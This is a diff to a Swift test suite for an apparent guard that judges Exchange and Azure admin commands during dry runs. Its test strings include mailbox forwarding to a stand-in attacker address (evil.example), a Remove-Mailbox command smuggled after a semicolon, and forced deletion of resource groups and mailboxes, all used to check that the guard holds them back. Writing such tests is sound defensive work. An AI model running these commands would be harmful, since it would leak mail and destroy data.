@@ -223,7 +223,7 @@ struct RequestGrantTests {
     @Test(
         "a dry run reads, holds back all that changes something, and says what a run would do with it",
         arguments: [
-            ("read", "allow", "allow"), ("write", "dry_run", "allow"), ("remove ann", "dry_run", "allow"),
+            ("read", "allow", "allow"), ("write", "dry_run", "ask"), ("remove ann", "dry_run", "ask"),
             ("remove ceo", "dry_run", "ask"), ("mail", "dry_run", "ask"), ("secret", "dry_run", "ask"),
         ])
     func dryRun(name: String, expected: String, inARun: String) throws {
@@ -241,7 +241,36 @@ struct RequestGrantTests {
         #expect(grant.traffic.sent.isEmpty && grant.traffic.held.isEmpty && grant.traffic.error(pending: nil) == nil)
     }
 
-    @Test("a dry run counts what a confirmed run would send without asking, and lists the first of very many")
+    @Test(
+        "a dry run shows the stricter of the decisions on the request and on the text",
+        arguments: [
+            ("Set-Mailbox ann@contoso.com -CustomAttribute1 x", "set ann", "allow"),
+            ("Set-Mailbox ann@contoso.com -CustomAttribute1 x", "forward ann", "ask"),
+            ("Set-Mailbox ann@contoso.com -ForwardingSmtpAddress x@evil.example", "forward ann", "ask"),
+            ("Set-Mailbox ann@contoso.com -ForwardingSmtpAddress x@evil.example", "set ann", "ask"),
+            ("Set-Mailbox ann@contoso.com -CustomAttribute1 x; Remove-Mailbox ann@contoso.com", "set ann", "deny"),
+            ("Set-Mailbox ann@contoso.com -CustomAttribute1 x", "remove ann", "deny"),
+        ])
+    func dryRunOfText(text: String, name: String, expected: String) throws {
+        let policy = GuardPolicy(.standard, overrides: [.destructive: .deny])
+        var grant = RequestGrant(Self.authority(text, policy: policy), policy: policy, isDryRun: true)
+        _ = grant.judge(try #require(Self.requests[name]), number: 1)
+        #expect(grant.traffic.rehearsed.map(\.decision.rawValue) == [expected])
+    }
+
+    @Test("a dry run of what runs with a warning alone shows what would be sent without a question")
+    func dryRunOfWarned() {
+        let policy = GuardPolicy(.standard, warnsOnly: true)
+        let authority = Self.authority("Remove-AzResourceGroup -Name rg-old -Force", policy: policy)
+        var grant = RequestGrant(authority, policy: policy, isDryRun: true)
+        for (number, name) in ["rg-old", "rg-new"].enumerated() {
+            let request = Wire.intent(.arm, "DELETE", "/subscriptions/s/resourceGroups/\(name)")
+            _ = grant.judge(request, number: UInt64(number))
+        }
+        #expect(grant.traffic.rehearsed.map(\.decision) == [.allow, .ask])
+    }
+
+    @Test("a dry run of a script that is asked about says so of each change, and lists the first of very many")
     func dryRunOfMany() {
         var grant = RequestGrant(
             Self.authority("Get-Mailbox -ResultSize 5 | Remove-Mailbox"), policy: .standard, isDryRun: true)
@@ -250,7 +279,7 @@ struct RequestGrantTests {
             _ = grant.judge(Wire.intent(.exchange, "POST", Self.invoke, body), number: UInt64(number))
         }
         let traffic = grant.traffic
-        #expect(traffic.rehearsed.count { $0.decision == .allow } == 10)
+        #expect(traffic.rehearsed.allSatisfy { $0.decision == .ask })
         #expect(traffic.rehearsed.count + traffic.unlisted == 500 && traffic.unlisted > 0)
     }
 
